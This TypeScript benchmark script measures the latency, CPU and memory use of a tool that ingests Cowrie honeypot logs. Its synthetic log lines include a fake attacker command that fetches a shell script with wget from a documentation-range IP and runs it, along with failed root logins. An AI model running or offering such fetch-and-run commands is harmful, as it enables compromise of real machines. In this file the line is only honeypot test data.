/**
 * Measures the follower as a process: from a line written to a line that can be queried, CPU and memory while lines come,
 * while none do, and beside many old files.
 *
 *     npm run bench:delta -- [--rate N] [--seconds S] [--files N]
 */
import { type ChildProcess, spawn } from 'node:child_process'
import {
  closeSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readFileSync,
  rmSync,
  writeFileSync,
  writeSync,
} from 'node:fs'
import { cpus, loadavg, tmpdir, totalmem } from 'node:os'
import { join } from 'node:path'
import { parseArgs } from 'node:util'
import SQLite from 'better-sqlite3'

const root = join(import.meta.dirname, '..')
const { values } = parseArgs({
  options: {
    rate: { type: 'string', default: '500' },
    seconds: { type: 'string', default: '20' },
    files: { type: 'string', default: '10000' },
  },
})
const rate = Number(values.rate)
const seconds = Number(values.seconds)
const files = Number(values.files)

console.log(
  `Machine: ${cpus().length} x ${cpus()[0]?.model ?? 'unknown'}, ${Math.round(totalmem() / 2 ** 30)} GiB, Node ${process.versions.node}, load ${loadavg()[0]?.toFixed(1)}`,
)

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

/** CPU seconds and resident MiB of a process (proc(5)); a tick is a hundredth of a second. */
function usageOf(pid: number): { readonly cpuSeconds: number; readonly rssMiB: number } {
  const fields = readFileSync(`/proc/${pid}/stat`, 'latin1').split(') ')[1]!.split(' ')
  const rss = /VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'latin1'))![1]!
  return {
    cpuSeconds: (Number(fields[11]) + Number(fields[12])) / 100,
    rssMiB: Number(rss) / 1024,
  }
}

/** The lines of a session: connect, log in, commands. */
function line(i: number): string {
  const eventid =
    i % 10 === 0
      ? 'cowrie.session.connect'
      : i % 10 < 4
        ? 'cowrie.login.failed'
        : 'cowrie.command.input'
  const more =
    eventid === 'cowrie.command.input'
      ? { input: `cd /tmp; wget http://198.51.100.${i % 250}/${i % 97}.sh; sh ${i % 97}.sh` }
      : eventid === 'cowrie.login.failed'
        ? { username: 'root', password: `secret ${i % 5_000}` }
        : { src_port: 40_000, dst_ip: '192.0.2.1', dst_port: 2222, protocol: 'ssh' }
  return `${JSON.stringify({
    eventid,
    ...more,
    message: `event ${i}`,
    sensor: 'bench',
    timestamp: `${new Date().toISOString().slice(0, -1)}000Z`,
    src_ip: `203.0.113.${i % 250}`,
    session: Math.floor(i / 10)
      .toString(16)
      .padStart(12, '0'),
  })}\n`
}

async function started(logs: string, data: string): Promise<ChildProcess> {
  const child = spawn(join(root, 'bin/nacre'), ['ingest', 'delta', logs, '--data', data], {
    stdio: ['ignore', 'ignore', 'pipe'],
  })
  await new Promise<void>((resolve) => {
    child.stderr!.on('data', (text: Buffer) => {
      if (text.includes('Following')) resolve()
    })
  })
  return child
}

async function stopped(child: ChildProcess): Promise<void> {
  const ended = new Promise((resolve) => child.once('exit', resolve))
  child.kill('SIGTERM')
  await ended
}

/** Writes lines at a rate; notes for each when it was written. */
async function write(path: string, from: number, count: number, sent: number[]): Promise<void> {
  const fd = openSync(path, 'a')
  const begun = performance.now()
  for (let i = 0; i < count; ) {
    const due = Math.min(count, Math.ceil(((performance.now() - begun) / 1000) * rate))
    for (; i < due; i += 1) {
      writeSync(fd, line(from + i))
      sent[from + i] = performance.now()
    }
    await pause(1)
  }
  closeSync(fd)
}

/** Looks every two milliseconds which lines can be queried. */
async function look(database: string, sent: number[], total: number): Promise<number[]> {
  const db = new SQLite(database, { readonly: true })
  const newest = db.prepare('select max(id) from raw_events').pluck()
  const latencies: number[] = []
  while (latencies.length < total) {
    const seen = Number(newest.get() ?? 0)
    const now = performance.now()
    while (latencies.length < seen) latencies.push(now - sent[latencies.length]!)
    await pause(2)
  }
  db.close()
  return latencies
}

const percentile = (sorted: readonly number[], share: number): string =>
  sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * share))]!.toFixed(0)

const folder = mkdtempSync(join(tmpdir(), 'nacre-bench-'))
try {
  const logs = join(folder, 'logs')
  const data = join(folder, 'data')
  mkdirSync(logs)
  const child = await started(logs, data)
  const warmUp = rate * 5
  const count = rate * seconds
  const sent: number[] = []
  const looking = look(join(data, 'nacre.sqlite'), sent, warmUp + count)
  await write(join(logs, 'cowrie.json'), 0, warmUp, sent)
  const before = usageOf(child.pid!)
  await write(join(logs, 'cowrie.json'), warmUp, count, sent)
  const after = usageOf(child.pid!)
  const latencies = (await looking).slice(warmUp).sort((a, b) => a - b)
  console.log(
    `${rate} lines/s for ${seconds} s: written to queryable p50 ${percentile(latencies, 0.5)} ms, p99 ${percentile(latencies, 0.99)} ms, most ${percentile(latencies, 1)} ms; ${(((after.cpuSeconds - before.cpuSeconds) / seconds) * 100).toFixed(1)} % of a core, ${after.rssMiB.toFixed(0)} MiB`,
  )
  await pause(12_000)
  const idleFrom = usageOf(child.pid!)
  await pause(20_000)
  const idleTo = usageOf(child.pid!)
  console.log(
    `idle: ${((idleTo.cpuSeconds - idleFrom.cpuSeconds) * 5).toFixed(2)} % of a core, ${idleTo.rssMiB.toFixed(0)} MiB`,
  )
  await stopped(child)

  // Beside many old files, as a folder has them after years.
  for (let i = 0; i < files; i += 1)
    writeFileSync(join(logs, `cowrie.json.${i}`), `${line(i).replace('"bench"', '"old"')}`)
  const second = await started(logs, data)
  const db = new SQLite(join(data, 'nacre.sqlite'), { readonly: true })
  const known = db.prepare('select count(*) from source_files').pluck()
  while (Number(known.get()) < files + 1) await pause(500)
  db.close()
  const read = usageOf(second.pid!)
  await pause(15_000)
  const oldFrom = usageOf(second.pid!)
  await pause(20_000)
  const oldTo = usageOf(second.pid!)
  console.log(
    `beside ${files} old files: ${read.cpuSeconds.toFixed(1)} CPU s to meet them, then idle ${((oldTo.cpuSeconds - oldFrom.cpuSeconds) * 5).toFixed(2)} % of a core, ${oldTo.rssMiB.toFixed(0)} MiB`,
  )
  await stopped(second)
} finally {
  rmSync(folder, { recursive: true, force: true })
}
